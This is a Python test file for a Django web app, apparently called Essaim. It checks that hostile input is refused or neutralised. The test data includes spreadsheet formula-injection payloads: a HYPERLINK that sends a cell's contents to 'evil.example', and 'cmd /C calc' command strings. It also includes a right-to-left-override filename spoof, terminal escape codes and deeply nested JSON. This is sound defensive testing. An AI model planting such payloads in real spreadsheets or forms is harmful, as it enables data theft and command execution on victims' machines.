"""What a stranger sends never breaks Essaim: impossible dates, ids beyond the database's
integers, formula injection in spreadsheets, report abuse, control characters (issue 13)."""

import base64
import json

import pytest
from django.core.cache.backends.locmem import LocMemCache

from tests.helpers import on_sqlite

pytestmark = pytest.mark.django_db

IMPOSSIBLE_DATES = [
    "2025-02-30",
    "9999-99-99",
    "2025-12-01T25:00:00",
    "2025-12-01T10:00:00+25:00",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-05:00",
]
SEARCHES = [
    "/api/v1/organisations",
    "/api/v1/map/clusters?bbox=-10,35,20,60&zoom=5",
    "/fr/atlas/",
    "/fr/atlas/map/",
    "/exports/organisations.csv",
    "/exports/organisations.json",
    "/exports/organisations.geojson",
    "/exports/organisations.jsonld",
    "/exports/data-inclusion/structures.json",
    "/exports/lieux-de-mediation-numerique.csv",
]


@pytest.mark.parametrize("moment", IMPOSSIBLE_DATES)
@pytest.mark.parametrize("address", SEARCHES)
def test_an_impossible_date_is_a_clear_400(client, demo, address, moment):
    separator = "&" if "?" in address else "?"
    response = client.get(f"{address}{separator}updated_since={moment}", HTTP_ACCEPT_LANGUAGE="fr")
    assert response.status_code == 400
    text = response.content.decode()
    assert "updated_since" in text
    assert "ISO 8601" in text
    if address.startswith("/api/"):
        assert response.json()["parameter"] == "updated_since"


@pytest.mark.parametrize("params", [{"role": "\x00x"}, {"service": "a\x00"}, {"q": "coop\x00"},
                                    {"region": "\x1b[2J"}])  # fmt: skip
def test_a_control_character_in_a_search_is_a_clear_400(client, demo, params):
    response = client.get("/api/v1/organisations", params)
    assert response.status_code == 400
    assert response.json()["parameter"] == next(iter(params))
    assert client.get("/en/atlas/", params).status_code == 400


def test_a_real_date_still_filters(client, demo):
    assert client.get("/api/v1/organisations?updated_since=2000-02-29").json()["count"] > 0
    assert client.get("/api/v1/organisations?updated_since=9000-01-01").json()["count"] == 0


def cursor_of(payload: dict) -> str:
    return base64.urlsafe_b64encode(json.dumps(payload).encode()).decode().rstrip("=")


@pytest.mark.parametrize("number", [2**63, 2**63 - 1, 10**30])
def test_an_id_beyond_the_database_is_a_404(client, demo, number):
    response = client.get(f"/api/v1/organisations/{number}")
    assert response.status_code in (400, 404)
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["detail"]
    for page in (
        f"/fr/atlas/{number}/x/",
        f"/fr/atlas/{number}/x/history/",
        f"/fr/events/{number}/x/",
        f"/fr/resources/{number}/x/",
        f"/fr/opportunities/{number}/x/",
        f"/api/v1/events/{number}",
        f"/api/v1/resources/{number}",
        f"/api/v1/opportunities/{number}",
    ):
        assert client.get(page).status_code in (400, 404), page


@pytest.mark.parametrize(
    "payload",
    [{"after": 99999999999999999999999}, {"after": 2**63}, {"offset": 10**12}, {"offset": 2**70}],
)
def test_a_cursor_beyond_the_database_is_a_400(client, demo, payload):
    sort = "" if "after" in payload else "&sort=name"
    response = client.get(f"/api/v1/organisations?cursor={cursor_of(payload)}{sort}")
    assert response.status_code == 400
    assert response.json()["parameter"] == "cursor"


# 3. Formula injection in spreadsheets --------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def csv_cells(body: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_a_registrant_cannot_plant_a_formula_in_the_organisers_csv(client, moderator):
    from essaim.commons.models import Event
    from tests.helpers import upcoming_event

    event = upcoming_event()
    url = f"/en/events/{event.pk}/{event.slug}/register/"
    for name, email in [
        (FORMULA, "a@example.org"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "b@example.org"),
        ("-2+3+cmd|' /C calc'!A0", "c@example.org"),
        ("+33 6 12 34 56 78", "d@example.org"),
    ]:
        client.post(
            url,
            {
                "name": name,
                "email": email,
                "organisation_name": "Coop",
                "seat_locality": "Lille",
                "seat_country": "FR",
            },
        )
    client.force_login(moderator)
    event = Event.objects.get(pk=event.pk)
    assert event.registrations.count() == 4
    rows = csv_cells(client.get(f"/en/events/{event.pk}/{event.slug}/registrations.csv").content)
    names = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in names
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in names
    assert "'-2+3+cmd|' /C calc'!A0" in names
    assert "+33 6 12 34 56 78" in names, "a phone number is not a formula: left as it is"
    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)


def test_exports_neutralise_formulas_and_an_import_gives_them_back(client, demo, commit, tmp_path):
    from tests.exchange.test_imports import run_import, write_csv

    path = write_csv(
        tmp_path / "planted.csv",
        [
            ["p-1", FORMULA, "Lille", "FR", "50.63", "-3.06", "digital-mediation", ""],
            ["p-2", "@danger", "Lille", "FR", "50.63", "3.06", "digital-mediation", ""],
            ["p-3", "''=an apostrophe first", "Lille", "FR", "", "", "digital-mediation", ""],
        ],
    )
    run_import(path, commit, source="planted")
    body = b"".join(client.get("/exports/organisations.csv?q=lille").streaming_content)
    rows = csv_cells(body)
    header = rows[0]
    by_name = {row[header.index("name")]: row for row in rows[1:]}
    assert "'" + FORMULA in by_name
    assert "'@danger" in by_name
    assert "''=an apostrophe first" in by_name
    assert by_name["'" + FORMULA][header.index("longitude")] == "-3.06"
    assert not any(cell.startswith(("=", "@", "+")) for row in rows[1:] for cell in row)

    # The export, imported again as another source, gives the same names back.
    export = tmp_path / "export.csv"
    export.write_bytes(body)
    run_import(export, commit, source="again", partial=True)
    from essaim.atlas.models import Organisation

    names = set(Organisation.objects.filter(source="again").values_list("name", flat=True))
    assert {FORMULA, "@danger", "'=an apostrophe first"} <= names


def test_the_lmn_export_neutralises_formulas(client, demo, commit, tmp_path):
    from tests.exchange.test_imports import run_import, write_csv

    header = ["id", "name", "address", "postal_code", "locality", "country", "services"]
    path = write_csv(
        tmp_path / "place.csv",
        [
            [
                "m-1",
                "=1+cmd|' /C calc'!A0",
                "1 rue de la Paix",
                "59000",
                "Lille",
                "FR",
                "digital-mediation",
            ],
        ],
        header=header,
    )
    run_import(path, commit, source="places")
    rows = csv_cells(
        b"".join(client.get("/exports/lieux-de-mediation-numerique.csv").streaming_content)
    )
    header = rows[0]
    names = [row[header.index("nom")] for row in rows[1:]]
    assert "'=1+cmd|' /C calc'!A0" in names


def suggestion(name: str, email: str, **fields) -> dict:
    """What a visitor types in the suggestion form for a new French organisation."""
    return {"name": name, "original_language": "fr", "country": "France",
            "contributor_email": email, **fields}  # fmt: skip


# 5. Control characters in what people write --------------------------------------------------

RLO = "\u202e"


@pytest.mark.parametrize(
    "hidden", [RLO + "gnp.exe", "Coop\x07", "Coop\x1b[31m", "Coop\x00", "Coop\u2066x\u2069"]
)
def test_member_text_with_hidden_control_characters_is_refused_keeping_what_was_typed(
    client, demo, hidden
):
    data = suggestion(hidden, "visitor@example.org", comment="kept comment")
    response = client.post("/en/atlas/suggest/", data)
    assert response.status_code == 200
    page = response.content.decode()
    assert "invisible control character" in page
    assert "kept comment" in page, "the form keeps what the visitor typed"
    from essaim.contributions.models import Suggestion

    assert not Suggestion.objects.exists()


def test_registration_and_reports_refuse_control_characters(client, demo):
    from essaim.atlas.models import Organisation
    from essaim.commons.models import Registration
    from tests.helpers import page_of, upcoming_event

    event = upcoming_event()
    url = f"/fr/events/{event.pk}/{event.slug}/register/"
    page = client.post(
        url, {"name": RLO + "gnp.exe", "email": "r@example.org", "organisation_name": "Coop"}
    ).content.decode()
    assert "caractère de contrôle invisible" in page
    assert not Registration.objects.exists()
    org = Organisation.objects.get(name="Emmaüs Connect")
    page = client.post(
        page_of(org, "en") + "report/", {"reason": "wrong", "comment": "bad\x1b[2J"}
    ).content.decode()
    assert "invisible control character" in page


def test_member_text_is_isolated_in_its_own_direction(client, demo):
    from essaim.atlas.models import Organisation
    from tests.helpers import page_of

    org = Organisation.objects.get(name="Emmaüs Connect")
    page = client.get(page_of(org, "fr")).content.decode()
    assert '<h1 dir="auto">Emmaüs Connect</h1>' in page
    listing = client.get("/fr/atlas/?q=emmaus").content.decode()
    assert '<h3 dir="auto"><a href="' in listing


# 6–10. Imports a stranger's file cannot break ------------------------------------------------


def run(path, *args, **options):
    """`essaim import` in English; (exit code, stdout, stderr)."""
    import io

    from django.core.management import CommandError, call_command
    from django.utils import translation

    out, err = io.StringIO(), io.StringIO()
    options.setdefault("source", "stranger")
    try:
        with translation.override("en"):
            call_command(
                "import", str(path), *args, no_progress=True, stdout=out, stderr=err, **options
            )
    except CommandError as error:
        return 1, out.getvalue(), err.getvalue() + str(error)
    return 0, out.getvalue(), err.getvalue()


def rejects(path) -> list[dict]:
    import csv

    with open(f"{path}.rejects.csv", encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def peak_memory_of_import(path, fmt) -> float:
    """The Python memory an import's reading and checking allocates at its peak, in MB."""
    import tracemalloc

    tracemalloc.start()
    try:
        run(path, format=fmt, dry_run=True)
        return tracemalloc.get_traced_memory()[1] / 1e6
    finally:
        tracemalloc.stop()


def test_deeply_nested_json_is_rejected_by_position_with_bounded_memory(demo, tmp_path):
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    code, _out, err = run(deep, format="json", dry_run=True)
    assert code == 1
    assert rejects(deep)[0]["line"] == "1"
    assert "Not a record" in rejects(deep)[0]["reason"]

    nested = tmp_path / "nested.json"
    inner = '{"a":' * 50_000 + "1" + "}" * 50_000
    nested.write_text(
        '{"organisations": [' + inner + ', {"id": "ok", "name": "Fine", '
        '"country": "FR"}, 5, "text"]}'
    )
    code, out, _err = run(nested, format="json", partial=True)
    assert code == 0
    found = {row["line"]: row["reason"] for row in rejects(nested)}
    assert "nest deeper than" in found["1"]
    assert "Not a record" in found["3"] and "Not a record" in found["4"]
    from essaim.atlas.models import Organisation

    assert Organisation.objects.filter(source="stranger", name="Fine").exists()

    lines = tmp_path / "deep.jsonl"
    lines.write_text(
        '{"id": "1", "name": "A", "country": "FR"}\n{"id": "2", "x": '
        + "[" * 100_000
        + "]" * 100_000
        + "}\n"
    )
    code, _out, _err = run(lines, format="json", dry_run=True)
    assert code == 1
    assert [row["line"] for row in rejects(lines)] == ["2"]
    assert peak_memory_of_import(deep, "json") < 30
    assert peak_memory_of_import(lines, "json") < 30


def test_the_admin_upload_of_a_deep_file_reports_it(client, demo, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from essaim.accounts.models import User

    admin = User.objects.create_superuser("root", "root@example.org", "pw-for-tests-only")
    client.force_login(admin)
    upload = SimpleUploadedFile("deep.json", b"[" * 1000 + b"]" * 1000)
    response = client.post(
        "/en/admin/exchange/source/import/",
        {"file": upload, "format": "json", "source": "up", "mapping": ""},
        follow=True,  # to the page that follows the import
    )
    assert response.status_code == 200
    assert "Not a record" in response.content.decode()


def test_every_limit_of_the_model_is_checked_before_the_database(demo, tmp_path):
    import csv

    path = tmp_path / "long.csv"
    with open(path, "w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "name", "country", "website", "email", "source_url"])
        writer.writerow(["x" * 5_000_000, "Long id", "FR", "", "", ""])
        writer.writerow(["ok-2", "Long site", "FR", "https://example.org/" + "a" * 300, "", ""])
        writer.writerow(["ok-3", "Long mail", "FR", "", "a" * 250 + "@example.org", ""])
        writer.writerow(["ok-4", "Fine", "FR", "", "", ""])
    code, _out, err = run(path, format="csv", partial=True)
    assert code == 0
    found = {row["line"]: row for row in rejects(path)}
    assert list(found) == ["2"], "a bad id rejects its record; a bad address, only itself"
    assert found["2"]["field"] == "id" and "200" in found["2"]["reason"]
    assert len(found["2"]["id"]) < 1000, "the report does not copy 5 MB"
    json.loads(found["2"]["record"])
    assert "Line 3 (id ok-2), website = https://example.org/aaa" in err and "200" in err
    assert "Line 4 (id ok-3), email = aaa" in err
    from essaim.atlas.models import Organisation

    kept = Organisation.objects.filter(source="stranger").order_by("source_id")
    assert list(kept.values_list("name", "website", "email")) == [
        ("Long site", "", ""),
        ("Long mail", "", ""),
        ("Fine", "", ""),
    ]


def test_a_huge_rejected_record_stays_valid_json_in_the_rejects_file(demo, tmp_path):
    path = tmp_path / "big.json"
    path.write_text(
        json.dumps(
            [{"id": "b-1", "name": "Big", "country": "nowhere", "description_fr": "é" * 300_000}]
        )
    )
    code, _out, _err = run(path, format="json", dry_run=True)
    assert code == 1
    row = rejects(path)[0]
    record = json.loads(row["record"])
    assert record["__shortened__"] is True and record["id"] == "b-1"
    assert len(row["record"]) <= 100_000


@pytest.mark.parametrize(
    "encoding,line_end",
    [("utf-8", "\r"), ("utf-16-le", "\r\n"), ("utf-16-be", "\r\n"), ("utf-8", "\n")],
)
def test_classic_mac_line_ends_and_utf16_from_windows_are_read(demo, tmp_path, encoding, line_end):
    import codecs

    text = line_end.join(["id,name,country", "1,Élan numérique,FR", '2,"Beta, coop",BE', ""])
    bom = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}.get(encoding, b"")
    path = tmp_path / "file.csv"
    path.write_bytes(bom + text.encode(encoding))
    code, out, err = run(path, format="csv")
    assert code == 0, err
    assert "2 created" in out
    from essaim.atlas.models import Organisation

    names = set(Organisation.objects.filter(source="stranger").values_list("name", flat=True))
    assert names == {"Élan numérique", "Beta, coop"}


def test_the_importer_refuses_what_the_form_refuses(demo, tmp_path):
    import csv

    path = tmp_path / "bad.csv"
    with open(path, "w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "name", "country", "phone"])
        writer.writerows(
            [
                ["1", "Nul\x00byte", "FR", ""],
                ["2", "Phone words", "FR", "pas un numéro"],
                ["3", "Short phone", "FR", "12"],
                ["4", RLO + "gnp.exe", "FR", ""],
                ["5", "Good", "FR", "+33 1 23 45 67 89"],
            ]
        )
    code, _out, err = run(path, format="csv", partial=True)
    found = {row["line"]: row["field"] for row in rejects(path)}
    assert found == {"2": "name", "5": "name"}, "a refused name rejects its record"
    assert "Line 3 (id 2), phone = pas un numéro: Not a phone number" in err
    assert "Line 4 (id 3), phone = 12: Not a phone number" in err
    from essaim.atlas.models import Organisation

    phones = Organisation.objects.filter(source="stranger").order_by("source_id")
    assert list(phones.values_list("name", "phone")) == [
        ("Phone words", ""),
        ("Short phone", ""),
        ("Good", "+33 1 23 45 67 89"),
    ]


def test_the_form_refuses_what_is_not_a_phone(client, demo):
    data = suggestion("Coop Téléphone", "visitor@example.org", phone="pas un numéro")
    page = client.post("/en/atlas/suggest/", data).content.decode()
    assert "Not a phone number" in page
    assert 'value="pas un numéro"' in page


def test_reports_say_what_happened(demo, tmp_path):
    import csv

    path = tmp_path / "seven.csv"
    with open(path, "w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["id", "name", "country"])
        writer.writerows([[str(n), f"Coop {n}", "FR"] for n in range(7)] + [["8", "Bad", "XX"]])
    code, out, _err = run(path, format="csv")
    assert code == 1
    assert "7 created" not in out and "would have created 7" in out
    code, out, _err = run(path, format="csv", dry_run=True)
    assert code == 1, "a dry run of a file that would fail fails"
    code, out, _err = run(path, format="csv", dry_run=True, partial=True)
    assert code == 0

    nul = tmp_path / "nul.csv"
    nul.write_bytes(b"id,nom\x00,country\n1,A,FR\n")
    code, _out, err = run(nul, format="lmn")
    assert code == 1
    assert "Column 2" in err and "U+0000" in err and "Missing column" not in err


def test_the_admin_report_reads_well_in_french(client, demo):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from essaim.accounts.models import User

    admin = User.objects.create_superuser("root", "root@example.org", "pw-for-tests-only")
    client.force_login(admin)
    upload = SimpleUploadedFile("a.csv", b"id,name,country\n1,Alpha,FR\n2,Beta,BE\n")
    page = client.post(
        "/fr/admin/exchange/source/import/",
        {"file": upload, "format": "csv", "source": "up", "mapping": ""},
        follow=True,
    ).content.decode()
    assert "2 organisations créées" in page
    assert "créée le" not in page and "mise à jour le" not in page


# 4. Reports cannot be used to hide an entry --------------------------------------------------


def report_as(client, org, commit, user=None, email=""):
    from tests.helpers import page_of

    if user:
        client.force_login(user)
    else:
        client.logout()
    data = {"reason": "gone", **({"email": email} if email else {})}
    commit(client.post, page_of(org, "en") + "report/", data)


def test_anonymous_reports_never_hide_an_entry(client, demo, moderator, commit):
    from django.core import mail

    from essaim.atlas.models import Organisation, Status
    from essaim.contributions.models import Report

    org = Organisation.objects.get(name="Make.org")
    for number in range(5):
        report_as(client, org, commit, email=f"stranger{number}@example.org")
    assert Report.objects.filter(organisation=org).count() == 5
    org.refresh_from_db()
    assert org.status == Status.PUBLISHED
    assert client.get(f"/api/v1/organisations/{org.pk}").status_code == 200
    assert mail.outbox == []
    client.force_login(moderator)
    assert "Make.org" in client.get("/en/moderation/").content.decode(), "moderators see them"


def test_reports_of_verified_members_hide_and_tell_the_moderators(client, demo, moderator, commit):
    from django.core import mail

    from essaim.accounts.models import User
    from essaim.atlas.models import Organisation
    from tests.contributions.test_contributions import verified_member

    unverified = User.objects.create_user("unverified", "u@example.org", "pw-for-tests-only")
    org = Organisation.objects.get(name="Make.org")
    report_as(client, org, commit, unverified)
    report_as(client, org, commit, verified_member("one"))
    report_as(client, org, commit, verified_member("two"))
    assert client.get(f"/api/v1/organisations/{org.pk}").status_code == 200, "2 verified of 3"
    report_as(client, org, commit, verified_member("three"))
    assert client.get(f"/api/v1/organisations/{org.pk}").status_code == 404
    (message,) = mail.outbox
    assert message.to == [moderator.email]
    assert "Make.org" in message.subject
    assert f"/moderation/#reported-{org.pk}" in message.body


def test_an_entry_vouched_for_recently_is_never_hidden_by_reports(client, demo, moderator, commit):
    from django.core import mail

    from essaim.atlas.models import Organisation, Status
    from essaim.contributions.models import Representation
    from tests.contributions.test_contributions import verified_member

    org = Organisation.objects.get(name="Make.org")
    representative = verified_member("rep")
    Representation.objects.create(
        user=representative, organisation=org, status=Representation.Status.GRANTED
    )
    from essaim.atlas.facts import facts_of
    from essaim.contributions import actions

    commit(
        actions.do_edit_organisation,
        representative,
        org,
        {**facts_of(org), "phone": "+33 1 23 45 67 89"},
    )
    for name in ("one", "two", "three"):
        report_as(client, org, commit, verified_member(name))
    org.refresh_from_db()
    assert org.status == Status.PUBLISHED
    (message,) = mail.outbox
    assert "La fiche reste publiée" in message.body, "in the site's language"


# 11. A visitor is never told they did something they did not do -----------------------------


class UnwritableCache(LocMemCache):
    """A rate-limit store that refuses every write, as a database cache does while another
    transaction holds SQLite's write lock (`add` answers False, nothing is stored)."""

    def __init__(self, name="unwritable", params=None):
        super().__init__(name, params or {})

    def add(self, *args, **kwargs) -> bool:
        return False

    def set(self, *args, **kwargs) -> None:
        return None


def test_a_rate_limit_store_that_cannot_be_written_lets_a_first_visitor_through(
    client, demo, settings
):
    settings.CACHES = {
        **settings.CACHES,
        "unwritable": {"BACKEND": "tests.core.test_hardening.UnwritableCache"},
    }
    settings.RATELIMIT_USE_CACHE = "unwritable"
    data = suggestion("Coop Nouvelle", "first@example.org")
    response = client.post("/en/atlas/suggest/", data)
    assert "Too many" not in response.content.decode()
    from essaim.contributions.models import Suggestion

    assert Suggestion.objects.filter(proposed__name="Coop Nouvelle").exists()


@pytest.mark.skipif(not on_sqlite(), reason="PostgreSQL has no database-wide write lock")
@pytest.mark.django_db(transaction=True)
def test_while_a_long_import_holds_sqlites_lock_a_visitor_is_told_the_truth(client, demo):
    import sqlite3

    from django.db import connection

    data = suggestion("Coop Pendant", "during@example.org")
    lock = sqlite3.connect(connection.settings_dict["NAME"], isolation_level=None)
    lock.execute("BEGIN IMMEDIATE")  # what an import's transaction holds
    try:
        response = client.post("/en/atlas/suggest/", data)
    finally:
        lock.execute("ROLLBACK")
        lock.close()
    page = response.content.decode()
    assert response.status_code == 503
    assert "Too many" not in page
    assert "Nothing was saved" in page and response["Retry-After"]
    # Once the import is over, the same visitor sends again and is not refused either.
    response = client.post("/en/atlas/suggest/", data)
    assert "Too many" not in response.content.decode()
    from essaim.contributions.models import Suggestion

    assert Suggestion.objects.filter(proposed__name="Coop Pendant").exists()


# The API says what it does ---------------------------------------------------------------


def test_a_box_across_the_antimeridian_finds_what_lies_in_it(client, demo, commit, tmp_path):
    from tests.exchange.test_imports import run_import, write_csv

    path = write_csv(
        tmp_path / "pacific.csv",
        [
            ["f-1", "Suva Coop", "Suva", "FJ", "-18.14", "178.44", "", ""],
            ["f-2", "Taveuni Coop", "Taveuni", "FJ", "-16.85", "-179.97", "", ""],
            ["f-3", "Samoa Coop", "Apia", "WS", "-13.83", "-171.76", "", ""],
        ],
    )
    run_import(path, commit, source="pacific")
    data = client.get("/api/v1/organisations?bbox=178,-20,-179,-10").json()
    assert {item["name"] for item in data["results"]} == {"Suva Coop", "Taveuni Coop"}
    clusters = client.get("/api/v1/map/clusters?bbox=178,-20,-179,-10&zoom=6").json()
    assert sum(feature["properties"]["count"] for feature in clusters["features"]) == 2


def test_an_administrator_created_at_the_console_can_sign_in(client, db):
    import io

    from django.core.management import call_command

    call_command(
        "createsuperuser",
        "--no-input",
        username="admin",
        email="admin@example.org",
        stdout=io.StringIO(),
    )
    from essaim.accounts.models import User

    admin = User.objects.get(username="admin")
    admin.set_password("a-long-admin-password")
    admin.save()
    response = client.post(
        "/en/accounts/login/", {"login": "admin@example.org", "password": "a-long-admin-password"}
    )
    assert response.status_code == 302
    assert "confirm-email" not in response["Location"]
    assert client.get("/en/admin/").status_code == 200


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_feed_ids_do_not_follow_the_host_header(client, demo, host):
    import feedparser

    for feed in ("/fr/resources/feed.atom", "/fr/opportunities/feed.atom"):
        parsed = feedparser.parse(client.get(feed, HTTP_HOST=host).content)
        assert parsed.feed.id == "http://127.0.0.1:8000" + feed
        assert all(entry.id.startswith("http://127.0.0.1:8000/fr/") for entry in parsed.entries)


def test_commons_not_found_is_the_apis_json_error(client, demo):
    for address in (
        "/api/v1/events/99999",
        "/api/v1/resources/99999",
        "/api/v1/opportunities/99999",
    ):
        response = client.get(address)
        assert response.status_code == 404
        assert set(response.json()) == {"detail", "parameter"}


def test_the_atlas_says_where_its_list_stops_and_how_to_narrow_it(client, generated):
    generated(30)
    for page in ("3", "501"):
        response = client.get(f"/en/atlas/?page={page}")
        assert response.status_code == 404
        text = response.content.decode()
        assert "There is no such page: this search fits on 2 pages." in text
        assert "No organisation matches" not in text
    assert client.get("/en/atlas/?page=0").status_code == 404
    assert "narrow the search" not in client.get("/en/atlas/?page=2").content.decode()


def test_past_ten_thousand_results_the_last_page_says_how_to_narrow(client, generated, monkeypatch):
    from essaim.atlas import views
    from essaim.search import index

    generated(60)
    # The same rule at a smaller scale: the list reads at most 40 results (2 pages).
    monkeypatch.setattr(index, "MAX_HITS", 40)
    monkeypatch.setattr(views, "MAX_HITS", 40)
    for page in ("2", "3", "9999"):
        response = client.get(f"/en/atlas/?page={page}")
        text = response.content.decode()
        assert "The list shows the first 40 results, over 2 pages." in text
        assert "narrow the search" in text
        assert 'id="filters"' in text, "the filters stay on screen"
    assert response.status_code == 404


def test_an_over_long_address_is_a_clear_414(client, db):
    response = client.get("/api/v1/organisations?q=" + "a" * 9000, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 414
    assert response.json()["detail"].startswith("This address is too long")
    spanish = client.get("/api/v1/organisations?q=" + "a" * 9000, HTTP_ACCEPT_LANGUAGE="es")
    assert spanish.json()["detail"].startswith("Esta dirección es demasiado larga")
    page = client.get("/en/atlas/?q=" + "a" * 9000)
    assert page.status_code == 414
    assert "This address is too long" in page.content.decode()


@pytest.mark.parametrize("address", ["/fr/resources/alternatives/?tool=a%00",
                                     "/api/v1/resources?theme=a%00", "/fr/events/?theme=a%00",
                                     "/fr/opportunities/?legal_form=a%00"])  # fmt: skip
def test_a_nul_in_the_commons_filters_is_never_a_server_error(client, demo, address):
    assert client.get(address).status_code in (200, 400, 404)
